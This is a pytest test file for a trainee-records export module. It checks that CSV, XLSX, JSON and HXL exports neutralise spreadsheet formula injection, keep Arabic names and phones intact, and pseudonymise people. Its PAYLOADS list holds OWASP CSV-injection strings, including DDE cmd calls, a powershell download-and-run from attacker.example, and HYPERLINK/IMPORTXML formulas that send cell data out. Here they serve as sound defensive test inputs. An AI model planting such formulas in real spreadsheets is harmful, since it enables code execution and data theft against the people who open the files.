"""Exports: formula injection stays inert, real spreadsheets read them back, persons stay pseudonymous."""

from __future__ import annotations

import csv
import datetime
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from trainer.accounts.access import SYSTEM, Actor
from trainer.cli import main
from trainer.errors import PermissionDenied, TrainerError
from trainer.reporting import catalogue as reports
from trainer.reporting import exports
from trainer.reporting.pseudonyms import ENV_KEY, Pseudonymiser

# OWASP "CSV Injection" payloads and variants: each must come back as text, never run.
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker.example/s)'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://attacker.example?x="&A1,"Error")',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", A2), "//a")',
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    '"=1+1"',
    '="=1+1"',
    "+SUM(1;1)",
    "-SUM(1,1)",
    "@A1",
    "=A1&A2",
]
ARABIC = "محمد حسن علي الجبوري"
PHONE = "+964 770 123 4567"


@pytest.fixture(autouse=True)
def pseudonym_key(monkeypatch):
    monkeypatch.setenv(ENV_KEY, "k" * 40)


def sample_rows():
    rows = [(p, ARABIC, PHONE, 7, datetime.date(2024, 5, 30)) for p in PAYLOADS]
    return ("text", "name", "phone", "n", "day"), rows


def read_csv(path):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_csv_neutralises_every_payload_and_keeps_phones_and_arabic(tmp_path):
    columns, rows = sample_rows()
    path = tmp_path / "x.csv"
    exports.write_csv(path, columns, rows)
    assert not path.read_bytes().startswith(b"\xef\xbb\xbf")  # csv.DictReader reads the first column's name
    back = read_csv(path)
    assert back[0] == list(columns)
    for payload, row in zip(PAYLOADS, back[1:]):
        if payload[0] in "=+-@\t\r":
            assert row[0] == "'" + payload  # inert: a leading apostrophe, the text intact after it
        else:
            assert row[0] == payload  # quoted by the CSV writer: starts with '"', never a formula
        assert row[1:4] == [ARABIC, PHONE, "7"] and row[4] == "2024-05-30"
    assert len(back) == len(PAYLOADS) + 1  # records only: no notes under the data
    # A phone number keeps its + only in a phone column, and only when it is one.
    assert exports.neutralise("+9647701234567", phone=True) == "+9647701234567"
    assert exports.neutralise(PHONE) == "'" + PHONE and exports.neutralise(PHONE, phone=True) == PHONE
    assert exports.neutralise("+1-1-1-1-1") == "'+1-1-1-1-1"
    assert exports.neutralise("-12.5") == "-12.5" and exports.neutralise("+1+1", phone=True) == "'+1+1"


def test_xlsx_holds_payloads_as_plain_strings_with_real_dates(tmp_path):
    columns, rows = sample_rows()
    path = tmp_path / "x.xlsx"
    exports.write_xlsx(path, columns, rows, title="Payloads", notes=(("Note", "a note"),))
    with zipfile.ZipFile(path) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet_xml and "<f " not in sheet_xml
        assert not any(n.startswith("xl/calcChain") for n in z.namelist())
    book = load_workbook(path)
    sheet = book.active
    assert book.sheetnames == ["Payloads", "Notes"] and book["Notes"]["B1"].value == "a note"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:E{len(PAYLOADS) + 1}"
    for payload, row in zip(PAYLOADS, sheet.iter_rows(min_row=2, max_row=len(PAYLOADS) + 1)):
        text, name, phone, n, day = row
        # OOXML writes CR as _x000D_ (Excel decodes it; openpyxl leaves it as is).
        assert text.value.replace("_x000D_", "\r") == payload
        assert text.data_type == "s" and text.quotePrefix == (payload[0] in "=+-@\t\r")
        assert (name.value, phone.value, n.value) == (ARABIC, PHONE, 7)
        assert day.is_date and day.value == datetime.datetime(2024, 5, 30)


def test_xlsx_of_arabic_content_is_right_to_left(tmp_path):
    path = tmp_path / "ar.xlsx"
    # Rows named in Arabic read right to left, whatever the other columns hold.
    exports.write_xlsx(path, ("n", "name", "name_en", "force"), [(1, ARABIC, "Mohammed Hasan", "police")] * 3)
    with zipfile.ZipFile(path) as z:
        assert 'rightToLeft="1"' in z.read("xl/worksheets/sheet1.xml").decode()
    assert load_workbook(path).active.sheet_view.rightToLeft
    exports.write_xlsx(tmp_path / "en.xlsx", ("force", "name"), [("police", "Local Police")] * 3)
    assert not load_workbook(tmp_path / "en.xlsx").active.sheet_view.rightToLeft


def test_json_and_hxl(tmp_path):
    columns, rows = sample_rows()
    exports.write_json(tmp_path / "x.json", columns, rows)
    data = json.loads((tmp_path / "x.json").read_text(encoding="utf-8"))
    assert data[0] == {
        "text": "=1+1",
        "name": ARABIC,
        "phone": PHONE,
        "n": 7,
        "day": "2024-05-30",
    }
    exports.write_json(tmp_path / "x.ndjson", columns, rows, lines=True)
    lines = (tmp_path / "x.ndjson").read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(rows) and json.loads(lines[1])["text"] == "+1+1"
    exports.write_hxl(tmp_path / "x.csv", ("province", "n"), ("#adm1+code", "#indicator+num"), [("IQ-NI", 5)])
    assert read_csv(tmp_path / "x.csv")[:3] == [["province", "n"], ["#adm1+code", "#indicator+num"], ["IQ-NI", "5"]]


def test_times_leave_with_their_zone(tmp_path):
    """The database keeps UTC without a zone; a file says so, and pandas reads the time as UTC."""
    import pandas as pd

    columns, rows = ("at", "day"), [(datetime.datetime(2026, 12, 3, 8, 30), datetime.date(2026, 12, 3))]
    exports.write_json(tmp_path / "t.json", columns, rows)
    assert json.loads((tmp_path / "t.json").read_text(encoding="utf-8")) == [
        {"at": "2026-12-03T08:30:00+00:00", "day": "2026-12-03"}
    ]
    exports.write_csv(tmp_path / "t.csv", columns, rows)
    assert read_csv(tmp_path / "t.csv")[1] == ["2026-12-03T08:30:00+00:00", "2026-12-03"]
    at = pd.to_datetime(pd.read_json(tmp_path / "t.json", dtype=False)["at"])
    assert str(at.dt.tz) == "UTC" and at[0].hour == 8


def test_progress_is_reported_in_steps(tmp_path):
    seen = []
    exports.write_csv(
        tmp_path / "p.csv",
        ("n",),
        [(i,) for i in range(500)],
        total=500,
        progress=lambda done, total: seen.append((done, total)),
    )
    assert len(seen) > 10 and seen[-1] == (500, 500) and seen == sorted(seen)


# --- reports as they leave -------------------------------------------------


@pytest.fixture
def small(db_url):
    from tests.unit.test_reports import build_small

    return build_small()


def test_aggregate_exports_are_suppressed_and_say_so(small, tmp_path):
    result = reports.run_report(SYSTEM, "trained-by-province", reports.ReportParams())
    for fmt in ("csv", "hxl", "json", "xlsx"):
        out = tmp_path / f"p.{'csv' if fmt == 'hxl' else fmt}"
        written = reports.write_result(result, fmt, out)
        assert written.suppressed >= 4
        if fmt == "xlsx":
            book = load_workbook(out)
            notes = [c.value for row in book["Notes"].iter_rows() for c in row if c.value is not None]
            assert any("Small-count suppression applied" in str(c) for c in notes)
            sheet = book.active
            header = [c.value for c in sheet[1]]
            body = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
        else:
            meta = json.loads(Path(written.metadata).read_text(encoding="utf-8"))
            assert meta["suppressed_cells"] == written.suppressed
            assert "Small-count suppression applied" in " ".join(meta["notes"])
            if fmt == "json":
                data = json.loads(out.read_text(encoding="utf-8"))
                header, body = list(data[0]), [list(r.values()) for r in data]
            else:
                rows = read_csv(out)
                if fmt == "hxl":
                    assert rows[1][:2] == ["#country+code", "#adm1+code"] and rows[1][-1] == "#meta+suppressed"
                    rows = [r[1:] for r in [rows[0], *rows[2:]]]
                header = rows[0]
                body = [[None if v == "" else int(v) if v.isdigit() else v for v in r] for r in rows[1:]]
        assert header[0] == "province" and header[-1] == "suppressed"
        assert "Total" not in {r[0] for r in body}  # records only: totals live in the metadata
        flagged = [r for r in body if r[-1]]
        assert flagged and all(r[header.index(col)] is None for r in flagged for col in r[-1].split(";"))
        shown = [v for r in body for v in r[3:-1] if v is not None]
        assert shown and all(isinstance(v, int) for v in shown) and not [v for v in shown if 1 <= v <= 4]
    # The terminal table is the analyst's own view: exact.
    assert "[c]" not in exports.to_table(result.columns, result.rows)


def test_person_level_reports_never_go_out_as_hxl(small, tmp_path):
    result = reports.run_report(SYSTEM, "cohort-roster", reports.ReportParams(cohort="BP-1"))
    with pytest.raises(TrainerError, match="HXL is for aggregate reports only"):
        reports.write_result(result, "hxl", tmp_path / "r.csv")


def test_trainee_export_is_pseudonymised_unless_allowed_and_asked(small, tmp_path):
    from trainer.reporting.registry_export import export_trainees

    analyst = Actor(user_id=None, username="ana", role="analyst")
    done = export_trainees(analyst, "csv", tmp_path / "t.csv")
    rows = read_csv(tmp_path / "t.csv")
    assert rows[0][0] == "pseudonym" and "national_id" not in rows[0] and "given_name" not in rows[0]
    assert done.rows == 7 and all(r[0].startswith("P-") for r in rows[1:])
    assert not any("اسم" in v for r in rows for v in r)
    with pytest.raises(PermissionDenied, match="names or national IDs"):
        export_trainees(analyst, "csv", tmp_path / "n.csv", identified=True)
    export_trainees(SYSTEM, "xlsx", tmp_path / "n.xlsx", identified=True)
    sheet = load_workbook(tmp_path / "n.xlsx").active
    header = [c.value for c in sheet[1]]
    assert "national_id" in header and "given_name" in header
    phone = header.index("phone")
    assert {sheet.cell(row=i, column=phone + 1).value for i in range(2, 9)} == {"+9647701234567"}
    # The same person carries the same token in both exports (same key).
    token = Pseudonymiser().token
    from db import models
    from db.connection import database

    with database.connection_context():
        uuids = {str(u) for (u,) in models.Trainee.select(models.Trainee.uuid).tuples()}
    assert {r[0] for r in rows[1:]} == {token(u) for u in uuids}
    with database.connection_context():
        events = [e.action for e in models.AuditEvent.select().where(models.AuditEvent.action == "export")]
    assert len(events) == 2


# --- the command line ------------------------------------------------------


def test_cli_reports_and_exports(sqlite_url, tmp_path, capsys, monkeypatch):
    """SQLite only: the local operator (no --user) exists there alone; the services run on both backends above."""
    from tests.unit.test_reports import build_small

    build_small()
    db_url = sqlite_url
    code = main(["--db", db_url, "report", "trained-by-force", "--format", "csv"])
    out = capsys.readouterr().out
    assert code == 0 and out.splitlines()[0] == "force,name_en,name_ar,trained,suppressed"
    assert "police,Local Police,الشرطة المحلية,,trained" in out  # 4 is a small count: a CSV suppresses it
    code = main(["--db", db_url, "report", "trained-by-force"])
    assert code == 0 and re.search(r"^police +Local Police +\S.* 4$", capsys.readouterr().out, re.M)  # exact
    xlsx = tmp_path / "r.xlsx"
    assert main(["--db", db_url, "report", "pass-rates", "--format", "xlsx", "--output", str(xlsx)]) == 0
    assert "wrote 4 rows" in capsys.readouterr().out and xlsx.exists()  # 4 courses; totals in the Notes sheet
    assert main(["--db", db_url, "report", "cohort-roster", "--cohort", "BP-1"]) == 1
    assert "--user" in capsys.readouterr().err
    assert main(["--db", db_url, "report", "nope"]) == 1
    assert "no report named 'nope'" in capsys.readouterr().err
    assert main(["--db", db_url, "report", "trained-by-force", "--province", "Atlantis"]) == 1
    assert "no province called 'Atlantis'" in capsys.readouterr().err
    with pytest.raises(SystemExit) as exit_:
        main(["--db", db_url, "report", "cohort-roster"])
    assert exit_.value.code == 2
    from trainer.accounts import users

    users.create_user(SYSTEM, "ana", "analyst", "analyst-password-1")
    monkeypatch.setenv("TRAINER_PASSWORD", "analyst-password-1")
    out_csv = tmp_path / "t.csv"
    assert main(["--db", db_url, "--user", "ana", "export", "trainees", "--output", str(out_csv)]) == 0
    assert "wrote 7 pseudonymised trainee rows" in capsys.readouterr().out
    assert (
        main(
            ["--db", db_url, "--user", "ana", "export", "trainees", "--identified", "--output", str(tmp_path / "i.csv")]
        )
        == 1
    )
    assert "may not export names" in capsys.readouterr().err and not (tmp_path / "i.csv").exists()
    # The person-level export refuses a file ending that is not its format, as reports do.
    with pytest.raises(SystemExit) as exit_:
        main(["--db", db_url, "--user", "ana", "export", "trainees", "--format", "json", "--output", str(xlsx)])
    assert exit_.value.code == 2 and "a json file's name ends in .json" in capsys.readouterr().err


# --- a real spreadsheet program ------------------------------------------------

SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


# Skipped on a developer's machine without LibreOffice, never in CI (CI=true), where .ci/run installs it.
@pytest.mark.skipif(
    SOFFICE is None and not os.environ.get("CI"),
    reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui to run this check",
)
def test_libreoffice_reads_our_xlsx_and_csv_with_arabic_intact_and_formulas_inert(tmp_path):
    assert SOFFICE, "LibreOffice (soffice) is missing in CI: .ci/run should have installed libreoffice-calc-nogui"
    columns, rows = sample_rows()
    rows = rows[:5]
    exports.write_xlsx(tmp_path / "from_xlsx.xlsx", columns, rows)
    exports.write_csv(tmp_path / "from_csv.csv", columns, rows)
    profile = f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}"
    for name, extra in (("from_xlsx.xlsx", []), ("from_csv.csv", ["--infilter=CSV:44,34,76,1"])):
        outdir = tmp_path / f"out_{name.split('.')[1]}"
        done = subprocess.run(
            [
                SOFFICE,
                profile,
                "--headless",
                *extra,
                "--convert-to",
                "csv:Text - txt - csv (StarCalc):44,34,76,1",
                "--outdir",
                str(outdir),
                str(tmp_path / name),
            ],
            capture_output=True,
            text=True,
            timeout=180,
        )
        assert done.returncode == 0, done.stderr
        back = read_csv(outdir / f"{name.split('.')[0]}.csv")
        assert back[0] == list(columns)
        for payload, row in zip(PAYLOADS, back[1:6]):
            assert row[1] == ARABIC and row[2] == PHONE
            assert row[0] != "2" and payload in row[0]  # "=1+1" came back as its text, not as 2
        if name.endswith("xlsx"):
            assert back[1][0] == "=1+1" and back[1][4] == "2024-05-30"
